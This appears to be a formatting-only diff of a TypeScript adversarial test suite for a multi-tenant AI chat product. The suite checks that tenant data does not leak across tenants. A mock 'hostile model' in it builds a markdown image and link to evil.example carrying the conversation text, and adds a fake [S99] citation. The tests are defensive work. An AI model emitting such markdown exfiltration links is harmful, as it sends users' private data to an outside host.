@@ -68,7 +68,10 @@ function hostileModel(body: ChatRequestBody, _call: number): Reply {
     };
   }
   // Everything it was given, pushed out through a markdown image and link, plus foreign citations.
-  const seen = body.messages.map((m) => m.content ?? '').join(' ').slice(-400);
+  const seen = body.messages
+    .map((m) => m.content ?? '')
+    .join(' ')
+    .slice(-400);
   return { kind: 'text', text: `Answer [S1] [S99] ![x](https://evil.example/c?d=${encodeURIComponent(seen)}) [more](https://evil.example/?s=${seen.length})` };
 }
 
@@ -86,7 +89,10 @@ afterAll(async () => {
 
 /** Messages the product wrote (system, user, tool): what the model was given, not what it said. */
 function productText(body: ChatRequestBody): string {
-  return body.messages.filter((m) => m.role !== 'assistant').map((m) => m.content ?? '').join('\n');
+  return body.messages
+    .filter((m) => m.role !== 'assistant')
+    .map((m) => m.content ?? '')
+    .join('\n');
 }
 
 const foreign = (k: Key): string[] => KEYS.filter((o) => o !== k).flatMap((o) => [canary[o], names[o], fx.ids[names[o]]!]);
@@ -111,7 +117,10 @@ describe('the adversarial suite: five tenants, hostile documents, a hostile mode
           refusals += r.toolRefusals;
           expect(r.mode).toBe('generated');
           const answerSide = JSON.stringify({ answer: r.answer, citations: r.citations });
-          expect(foreign(k).filter((n) => answerSide.includes(n)), `answer in ${k}`).toEqual([]);
+          expect(
+            foreign(k).filter((n) => answerSide.includes(n)),
+            `answer in ${k}`,
+          ).toEqual([]);
           // Citations resolve only to this tenant's own passages; [S99] is dropped.
           expect(r.citations.map((c) => c.id)).not.toContain('S99');
           for (const c of r.citations) expect(c.text.includes(canary[k]) || c.text.startsWith('Budget memo'), c.text).toBe(true);
@@ -119,7 +128,10 @@ describe('the adversarial suite: five tenants, hostile documents, a hostile mode
             if (!req.body) continue;
             requestsChecked++;
             const given = productText(req.body);
-            expect(foreign(k).filter((n) => given.includes(n)), `request in ${k}`).toEqual([]);
+            expect(
+              foreign(k).filter((n) => given.includes(n)),
+              `request in ${k}`,
+            ).toEqual([]);
             // The model is never told which tenant this is.
             expect(given.includes(names[k])).toBe(false);
           }
